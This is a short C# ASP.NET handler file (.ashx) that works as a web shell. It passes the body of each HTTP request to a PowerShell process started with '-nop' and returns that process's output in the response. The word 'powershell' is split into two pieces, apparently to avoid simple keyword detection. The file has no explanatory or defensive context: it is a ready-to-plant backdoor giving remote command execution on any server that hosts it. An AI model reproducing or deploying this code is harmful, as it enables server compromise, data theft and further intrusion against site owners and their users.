<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.Diagnostics;
public class H : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext ctx) {
    var psi = new ProcessStartInfo("power" + "shell", "-nop -");
    psi.RedirectStandardInput = true; psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    var p = Process.Start(psi);
    p.StandardInput.Write(new System.IO.StreamReader(ctx.Request.InputStream).ReadToEnd());
    p.StandardInput.Close();
    ctx.Response.Write(p.StandardOutput.ReadToEnd());
  }
}
